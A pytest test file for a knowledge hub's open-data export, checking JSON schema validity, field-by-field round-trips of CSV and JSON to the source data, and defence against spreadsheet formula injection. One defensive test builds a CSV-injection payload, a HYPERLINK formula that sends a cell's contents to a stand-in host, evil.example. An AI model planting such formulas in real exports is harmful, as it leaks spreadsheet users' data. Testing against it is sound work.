"""Open data: the published files are valid against their published schema and hold exactly the data.

Three sources are checked the same way: ``build_open_data`` called directly, the files of a real
``mkdocs build --strict`` (the session's ``built_site``) read back from disk, and
``build_open_data`` of a copy of the data whose text fields start with a character a spreadsheet
reads as a formula (one copy per character). Round-trip means: every entity read back from the
JSON, and every CSV cell read back with the csv module and the Open data page's rule for the
leading apostrophe, equals, field for field, the one ``load_hub`` returns.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml
from helpers_data import copy_data
from site_build import page_file

from knowledge_hub import paths
from knowledge_hub.export import (
    FORMAT_VERSION,
    HUB_JSON,
    LIST_SEPARATOR,
    PARAGRAPH_BREAK,
    SCHEMA_JSON,
    TABLES,
    Column,
    Table,
    build_open_data,
    build_schema,
    render_csv,
)
from knowledge_hub.hub import Hub
from knowledge_hub.loader import DataError, load_hub
from knowledge_hub.models import (
    ContentsEntry,
    Dialogue,
    Person,
    Practice,
    PublicationFile,
    Quote,
    Recommendation,
    Resource,
    Source,
    SourcePublication,
    Tag,
)

CSV_FILES = {table.path for table in TABLES}
EXPECTED_FILES = {HUB_JSON, SCHEMA_JSON} | CSV_FILES

FORMULA_CHARACTERS = ("=", "+", "-", "@", "\t", "\r")
"""What OWASP's "CSV Injection" lists as the start of a formula in a spreadsheet cell."""

APOSTROPHE = "'"


def exact_text(cell: str) -> str:
    """The Open data page's rule: remove the first character of a cell that starts with an apostrophe."""
    return cell[1:] if cell.startswith(APOSTROPHE) else cell


@pytest.fixture(scope="module")
def direct(hub: Hub) -> dict[str, bytes]:
    return build_open_data(hub)


@pytest.fixture(scope="module")
def published(built_site: Path) -> dict[str, bytes]:
    """The open data files as a real strict build wrote them."""
    missing = [path for path in EXPECTED_FILES if not (built_site / path).is_file()]
    assert not missing, f"the build did not publish {missing}"
    return {path: (built_site / path).read_bytes() for path in EXPECTED_FILES}


FORMULA_FIELDS = {
    "people.yaml": {"honorific", "name", "title", "organisation"},
    "dialogues.yaml": {"label", "title", "hosts", "audience", "summary", "text", "attribution", "note"},
    "resources.yaml": {"title", "appendix_title", "publisher", "description", "note"},
    "practices.yaml": {"name", "description", "organisation"},
    # not `summary`: its words must stand in the body, which is changed
    "recommendations.yaml": {"title", "conclusion_title", "body"},
}
"""Per data file, the keys (at any depth) whose text the formula copy starts with the character."""

EPIGRAPH_FIELDS = {"text", "attribution", "note"}
"""In publication.yaml, only the introduction's and conclusion's epigraphs (quotes.csv) change."""


def _start_with(node: Any, keys: set[str], start: str) -> Any:
    if isinstance(node, dict):
        return {
            key: start + value
            if key in keys and isinstance(value, str)
            else [start + item for item in value]
            if key in keys and isinstance(value, list) and all(isinstance(item, str) for item in value)
            else _start_with(value, keys, start)
            for key, value in node.items()
        }
    if isinstance(node, list):
        return [_start_with(item, keys, start) for item in node]
    return node


def formula_hub(root: Path, start: str) -> Hub:
    """A copy of the data whose text fields (FORMULA_FIELDS) all start with ``start``, loaded."""
    data = copy_data(root)
    for name, keys in FORMULA_FIELDS.items():
        document = yaml.safe_load((data / name).read_text(encoding="utf-8"))
        (data / name).write_text(yaml.safe_dump(_start_with(document, keys, start), allow_unicode=True), encoding="utf-8")
    publication = yaml.safe_load((data / "publication.yaml").read_text(encoding="utf-8"))
    for part in ("introduction", "conclusion"):
        publication[part]["epigraph"] = _start_with(publication[part]["epigraph"], EPIGRAPH_FIELDS, start)
    (data / "publication.yaml").write_text(yaml.safe_dump(publication, allow_unicode=True), encoding="utf-8")
    return load_hub(data)


REFUSED_STARTS = ("\r",)
"""Formula characters the data check refuses in any text (a control character): no copy is made with
them; the CSV rule for them is tested on cells directly."""

FORMULA_STARTS = (*(c for c in FORMULA_CHARACTERS if c not in REFUSED_STARTS), APOSTROPHE)
"""The starts a formula copy is made with: each formula character the data accepts, and the apostrophe itself."""


class FormulaHubs:
    """The formula copies, each loaded once, on first use."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.hubs: dict[str, Hub] = {}

    def __getitem__(self, start: str) -> Hub:
        if start not in self.hubs:
            self.hubs[start] = formula_hub(self.root / f"start-{ord(start)}", start)
        return self.hubs[start]


@pytest.mark.parametrize("start", REFUSED_STARTS, ids=repr)
def test_text_starting_with_a_refused_character_never_reaches_a_csv(start: str, tmp_path: Path) -> None:
    # Should the check ever accept it, it belongs in FORMULA_STARTS, whose copies test every table.
    with pytest.raises(DataError) as refused:
        formula_hub(tmp_path, start)
    assert refused.value.faults
    assert all(fault.line and fault.field for fault in refused.value.faults), refused.value.faults[:3]


@pytest.fixture(scope="module")
def formula_hubs(tmp_path_factory: pytest.TempPathFactory) -> FormulaHubs:
    return FormulaHubs(tmp_path_factory.mktemp("formula"))


@dataclass(frozen=True)
class OpenDataCase:
    """Open data files and the hub they must hold exactly."""

    hub: Hub
    files: dict[str, bytes]


@pytest.fixture(
    scope="module", params=["direct", "published", *FORMULA_STARTS], ids=["direct", "published", *map(repr, FORMULA_STARTS)]
)
def case(request: pytest.FixtureRequest, hub: Hub, formula_hubs: FormulaHubs) -> OpenDataCase:
    if request.param in ("direct", "published"):
        return OpenDataCase(hub, request.getfixturevalue(request.param))
    fixture = formula_hubs[request.param]
    return OpenDataCase(fixture, build_open_data(fixture))


@pytest.fixture(scope="module")
def files(case: OpenDataCase) -> dict[str, bytes]:
    return case.files


def _json(files: dict[str, bytes], path: str) -> Any:
    return json.loads(files[path].decode("utf-8"))


def test_build_open_data_returns_exactly_the_documented_files(direct: dict[str, bytes]) -> None:
    assert set(direct) == EXPECTED_FILES
    assert all(isinstance(content, bytes) and content for content in direct.values())


def test_published_files_are_the_ones_the_package_builds(direct: dict[str, bytes], published: dict[str, bytes]) -> None:
    for path in EXPECTED_FILES:
        assert published[path] == direct[path], f"{path} in the built site differs from build_open_data()"


def test_schema_is_generated_from_the_model_and_is_a_valid_json_schema(files: dict[str, bytes]) -> None:
    schema = _json(files, SCHEMA_JSON)
    assert schema == build_schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert schema["additionalProperties"] is False


def test_hub_json_is_valid_against_the_published_schema(files: dict[str, bytes]) -> None:
    validator = jsonschema.Draft202012Validator(_json(files, SCHEMA_JSON), format_checker=jsonschema.FormatChecker())
    errors = sorted(validator.iter_errors(_json(files, HUB_JSON)), key=lambda e: list(e.absolute_path))
    assert not errors, "\n".join(f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in errors[:20])


def test_schema_rejects_a_broken_document(files: dict[str, bytes]) -> None:
    """The schema is not vacuous: an unknown key, a bad id and a missing field all fail."""
    validator = jsonschema.Draft202012Validator(_json(files, SCHEMA_JSON))
    document = _json(files, HUB_JSON)
    document["practices"][0]["id"] = "Not An Id"
    del document["people"][0]["name"]
    document["extra"] = True
    messages = " | ".join(error.message for error in validator.iter_errors(document))
    assert "Not An Id" in messages and "'name' is a required property" in messages and "'extra'" in messages


def _uncited(entry: dict[str, Any], hub: Hub, original: Source) -> dict[str, Any]:
    """A published item with its source as the data writes it, after checking the pages it was given."""
    cited = entry["source"]
    publication, contents = _entry(hub, original)
    assert cited == {
        "section": original.section,
        "publication": publication.id,
        "first_page": contents.first_page,
        "last_page": contents.last_page,
        "pages": _pages(contents),
        "citation": _sources([original], hub)[0],
    }
    return {**entry, "source": original.model_dump()}


def _uncited_all(entry: dict[str, Any], hub: Hub, originals: list[Source]) -> dict[str, Any]:
    assert len(entry["source"]) == len(originals)
    for cited, original in zip(entry["source"], originals, strict=True):
        _uncited({"source": cited}, hub, original)
    return {**entry, "source": [s.model_dump() for s in originals]}


def test_hub_json_round_trips_to_the_yaml(case: OpenDataCase) -> None:
    files, hub = case.files, case.hub
    document = _json(files, HUB_JSON)
    assert document["format_version"] == FORMAT_VERSION == "4"
    assert PublicationFile.model_validate(document["publication"]) == hub.publication
    assert document["recommendations_introduction"] == hub.recommendations_intro

    assert [Person.model_validate(p) for p in document["people"]] == list(hub.people.values())
    assert [Tag.model_validate(t) for t in document["tags"]] == list(hub.tags.values())
    recommendations = [
        Recommendation.model_validate(_uncited(r, hub, rec.source))
        for r, rec in zip(document["recommendations"], hub.recommendations, strict=True)
    ]
    assert recommendations == hub.recommendations
    resources = [
        Resource.model_validate(_uncited_all(r, hub, resource.source))
        for r, resource in zip(document["resources"], hub.resources.values(), strict=True)
    ]
    assert resources == list(hub.resources.values())
    practices = [
        Practice.model_validate(_uncited_all(p, hub, practice.source))
        for p, practice in zip(document["practices"], hub.practices, strict=True)
    ]
    assert practices == hub.practices

    # Quotes are flattened: each carries where it stands; dialogues list them by id.
    assert [q["id"] for q in document["quotes"]] == list(hub.quotes)
    for entry in document["quotes"]:
        record = hub.quotes[entry["id"]]
        where = {"section": entry.pop("section"), "dialogue": entry.pop("dialogue")}
        assert Quote.model_validate(_uncited(entry, hub, record.quote.source)) == record.quote
        assert where == {"section": record.section, "dialogue": record.dialogue.id if record.dialogue else None}
    assert len(document["dialogues"]) == len(hub.dialogues)
    for entry, dialogue in zip(document["dialogues"], hub.dialogues, strict=True):
        quote_ids = entry.pop("quotes")
        assert quote_ids == [q.id for q in dialogue.quotes]
        entry = _uncited(entry, hub, dialogue.source)
        rebuilt = Dialogue.model_validate({**entry, "quotes": [hub.quotes[i].quote.model_dump() for i in quote_ids]})
        assert rebuilt == dialogue


def test_hub_json_counts(case: OpenDataCase) -> None:
    files, hub = case.files, case.hub
    document = _json(files, HUB_JSON)
    counts = {key: len(value) for key, value in document.items() if isinstance(value, list)}
    assert counts == {
        "people": len(hub.people),
        "dialogues": len(hub.dialogues),
        "quotes": len(hub.quotes),
        "recommendations": len(hub.recommendations),
        "resources": len(hub.resources),
        "practices": len(hub.practices),
        "tags": len(hub.tags),
    }


def _cells(files: dict[str, bytes], path: str) -> list[list[str]]:
    """The CSV as the csv module reads it, header row first; every cell as written."""
    text = files[path].decode("utf-8-sig")
    assert not text.startswith("\ufeff"), f"{path} has its byte-order mark twice"
    return list(csv.reader(io.StringIO(text, newline="")))


def _rows(files: dict[str, bytes], path: str) -> list[dict[str, str]]:
    """Each row by column name, every cell with the Open data page's rule applied (the exact text)."""
    header, *rows = _cells(files, path)
    return [dict(zip(header, map(exact_text, row), strict=True)) for row in rows]


def _split(cell: str) -> list[str]:
    return cell.split(LIST_SEPARATOR) if cell else []


def _entry(hub: Hub, source: Source) -> tuple[SourcePublication, ContentsEntry]:
    """The publication a source names (the first without a name) and the contents line its section starts with."""
    publication = next((p for p in hub.publication.sources if p.id == source.publication), hub.publication.sources[0])
    entries = [e for e in publication.contents if source.section == e.section or source.section.startswith(e.section + ":")]
    entries += [e for e in publication.contents if source.section.startswith(e.section + ",")]
    return publication, max(entries, key=lambda e: len(e.section))


def _pages(entry: ContentsEntry) -> str:
    if entry.last_page is None:
        return f"p. {entry.first_page} onwards"
    return f"p. {entry.first_page}" if entry.last_page == entry.first_page else f"pp. {entry.first_page}–{entry.last_page}"


def _sources(items: Any, hub: Hub) -> list[str]:
    """Each source as the hub cites it, built from the publication's own fields and contents."""
    cited = []
    for source in items:
        publication, entry = _entry(hub, source)
        cited.append(f"{publication.title} ({publication.publisher}, {publication.year}), {source.section}, {_pages(entry)}")
    return cited


def _assert_source_columns(row: dict[str, str], source: Source, hub: Hub) -> None:
    publication, entry = _entry(hub, source)
    assert row["publication"] == publication.id
    assert row["source_section"] == source.section
    assert row["first_page"] == str(entry.first_page)
    assert row["last_page"] == ("" if entry.last_page is None else str(entry.last_page))
    assert row["pages"] == _pages(entry)
    assert row["source"] == _sources([source], hub)[0]


def test_every_csv_has_its_documented_columns_and_one_row_per_item(case: OpenDataCase) -> None:
    files, hub = case.files, case.hub
    for table in TABLES:
        text = files[table.path].decode("utf-8-sig")
        header = next(csv.reader(io.StringIO(text, newline="")))
        assert header == [column.name for column in table.columns], table.path
        assert len(_rows(files, table.path)) == len(table.rows(hub)), table.path


def test_every_csv_starts_with_the_byte_order_mark_excel_needs(files: dict[str, bytes]) -> None:
    # Excel on Windows reads a CSV without it in the local code page: "’" would show as "â€™".
    for path in CSV_FILES:
        assert files[path].startswith(b"\xef\xbb\xbf"), path
        assert not files[path][3:].startswith(b"\xef\xbb\xbf"), f"{path}: the mark is written twice"
    quotes = files["data/quotes.csv"].decode("utf-8-sig")
    assert "’" in quotes, "no curly apostrophe in the quotes: the check below proves nothing"


def test_no_csv_cell_starts_with_a_formula_character(files: dict[str, bytes]) -> None:
    for path in sorted(CSV_FILES):
        for number, row in enumerate(_cells(files, path), start=1):
            for cell in row:
                assert not cell.startswith(FORMULA_CHARACTERS), f"{path}, row {number}: {cell[:60]!r}"


def _one_column(values: list[object]) -> Table:
    return Table("test", "A table made for the test.", lambda hub: values, (Column("value", "The value.", lambda v, hub: v),))


def test_text_starting_a_formula_gets_the_apostrophe_and_a_number_stays_a_number(hub: Hub) -> None:
    texts = [start + 'HYPERLINK("https://evil.example/?d="&B2,"Source")' for start in FORMULA_STARTS]
    harmless = ["Plain text", "A hyphen-ated - text", " =with a space first"]
    numbers = [12, -3, 0]
    lists = [["=first", "second"], ["first", "=second"]]
    written = [row[0] for row in _cells({"t": render_csv(_one_column([*texts, *harmless, *numbers, *lists]), hub)}, "t")[1:]]
    assert written == [
        *(APOSTROPHE + text for text in texts),
        *harmless,
        *(str(number) for number in numbers),
        APOSTROPHE + LIST_SEPARATOR.join(lists[0]),
        LIST_SEPARATOR.join(lists[1]),
    ]
    assert [exact_text(cell) for cell in written[: len(texts)]] == texts


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_every_table_of_a_formula_copy_has_text_starting_with_the_character(start: str, formula_hubs: FormulaHubs) -> None:
    # The formula cases prove something only if such text reaches every table.
    hub = formula_hubs[start]
    held = next(iter(hub.people.values())).name[:1]  # what the loaded data holds (the loader may normalise)
    files = build_open_data(hub)
    for path in sorted(CSV_FILES):
        cells = [cell for row in _cells(files, path)[1:] for cell in row]
        assert any(exact_text(cell).startswith(held) for cell in cells), f"{path}: no text starts with {held!r}"


def test_recommendations_csv_round_trips(case: OpenDataCase) -> None:
    files, hub = case.files, case.hub
    rows = _rows(files, "data/recommendations.csv")
    assert [row["slug"] for row in rows] == [r.slug for r in hub.recommendations]
    for row, rec in zip(rows, hub.recommendations, strict=True):
        assert int(row["number"]) == rec.number
        for name in ("title", "conclusion_title", "summary"):
            assert row[name] == (getattr(rec, name) or ""), (rec.slug, name)
        assert row["body"].split(PARAGRAPH_BREAK) == rec.body, rec.slug
        for name in ("quotes", "cited_resources", "related_resources", "tags"):
            assert _split(row[name]) == getattr(rec, name), (rec.slug, name)
        assert _split(row["practices"]) == [p.id for p in hub.practices_by_recommendation.get(rec.slug, [])]
        _assert_source_columns(row, rec.source, hub)


def test_dialogues_csv_round_trips(case: OpenDataCase) -> None:
    files, hub = case.files, case.hub
    rows = _rows(files, "data/dialogues.csv")
    assert [row["id"] for row in rows] == [d.id for d in hub.dialogues]
    for row, dialogue in zip(rows, hub.dialogues, strict=True):
        assert (int(row["number"]), row["label"], row["title"], row["date"]) == (
            dialogue.number,
            dialogue.label,
            dialogue.title,
            dialogue.date.isoformat(),
        )
        assert (row["facilitator"], row["audience"]) == (dialogue.facilitator, dialogue.audience)
        for name in ("hosts", "speakers"):
            assert _split(row[name]) == getattr(dialogue, name), (dialogue.id, name)
        assert row["summary"].split(PARAGRAPH_BREAK) == dialogue.summary, dialogue.id
        assert _split(row["quotes"]) == [q.id for q in dialogue.quotes]
        _assert_source_columns(row, dialogue.source, hub)


def test_practices_csv_round_trips(case: OpenDataCase) -> None:
    files, hub = case.files, case.hub
    rows = _rows(files, "data/practices.csv")
    assert [row["id"] for row in rows] == [p.id for p in hub.practices]
    for row, practice in zip(rows, hub.practices, strict=True):
        for name in ("name", "name_wording", "kind", "description", "organisation", "organisation_type"):
            assert row[name] == (getattr(practice, name) or ""), (practice.id, name)
        for name in ("shared_by", "dialogues", "recommendations", "resources", "tags"):
            assert _split(row[name]) == getattr(practice, name), (practice.id, name)
        assert _split(row["source"]) == _sources(practice.source, hub)
        assert _split(row["publications"]) == list(dict.fromkeys(_entry(hub, s)[0].id for s in practice.source))


def test_quotes_csv_round_trips(case: OpenDataCase) -> None:
    files, hub = case.files, case.hub
    rows = _rows(files, "data/quotes.csv")
    assert [row["id"] for row in rows] == list(hub.quotes)
    for row in rows:
        record = hub.quotes[row["id"]]
        quote = record.quote
        assert (row["text"], row["speaker"], row["attribution"], row["kind"]) == (
            quote.text,
            quote.speaker,
            quote.attribution,
            quote.kind,
        )
        assert row["speaker_name"] == hub.people[quote.speaker].name
        assert row["section"] == record.section
        assert row["dialogue"] == (record.dialogue.id if record.dialogue else "")
        assert _split(row["tags"]) == quote.tags
        assert row["note"] == (quote.note or "")
        assert _split(row["recommendations"]) == [r.slug for r in hub.recommendations_by_quote.get(quote.id, [])]
        _assert_source_columns(row, quote.source, hub)


def test_people_csv_round_trips(case: OpenDataCase) -> None:
    files, hub = case.files, case.hub
    rows = _rows(files, "data/people.csv")
    assert [row["id"] for row in rows] == list(hub.people)
    for row in rows:
        person = hub.people[row["id"]]
        for name in ("honorific", "name", "title", "organisation", "organisation_type"):
            assert row[name] == getattr(person, name), (person.id, name)
        assert _split(row["dialogues"]) == [d.id for d in hub.dialogues_by_person.get(person.id, [])]


def test_resources_csv_round_trips(case: OpenDataCase) -> None:
    files, hub = case.files, case.hub
    rows = _rows(files, "data/resources.csv")
    assert [row["id"] for row in rows] == list(hub.resources)
    for row in rows:
        resource = hub.resources[row["id"]]
        for name in ("title", "publisher", "kind", "group", "appendix_title", "description"):
            assert row[name] == (getattr(resource, name) or ""), (resource.id, name)
        assert row["link_url"] == (str(resource.link.url) if resource.link else "")
        assert _split(row["tags"]) == resource.tags
        assert _split(row["source"]) == _sources(resource.source, hub)
        assert _split(row["publications"]) == list(dict.fromkeys(_entry(hub, s)[0].id for s in resource.source))


def test_open_data_page_says_how_formulas_are_kept_from_running(built_site: Path, parse_html: Any) -> None:
    root = parse_html(page_file(built_site, paths.OPEN_DATA))
    paragraphs = [p for p in root.css("p") if "as a formula" in p.text()]
    assert len(paragraphs) == 1, "the page has no one paragraph about formulas"
    text = " ".join(paragraphs[0].text().split())
    codes = {code.text() for code in paragraphs[0].css("code")}
    named = {"\t": "a tab", "\r": "a carriage return"}
    for start in FORMULA_STARTS:
        assert (named[start] in text) if start in named else (start in codes), f"the page does not name {start!r}"
    # The rule the round-trip tests above apply (exact_text), in the page's words.
    assert "remove the first character of every cell that starts with '" in text
    assert "hub.json always holds the exact text" in text


def test_open_data_page_links_every_file(built_site: Path, parse_html: Any) -> None:
    page = page_file(built_site, paths.OPEN_DATA)
    root = parse_html(page)
    hrefs = {a.attrs.get("href") for a in root.css("a")}
    for path in EXPECTED_FILES:
        assert f"../{path}" in hrefs, f"the Open data page does not link {path}"
    text = " ".join(root.text().split())
    assert "© 2021 . All rights reserved." in text
    # The code's licence is named, and so is what it does not cover.
    assert "MIT License" in text and "LICENSE" in text
    assert "does not cover the publication's text" in text
    assert f'format_version is "{FORMAT_VERSION}"' in text
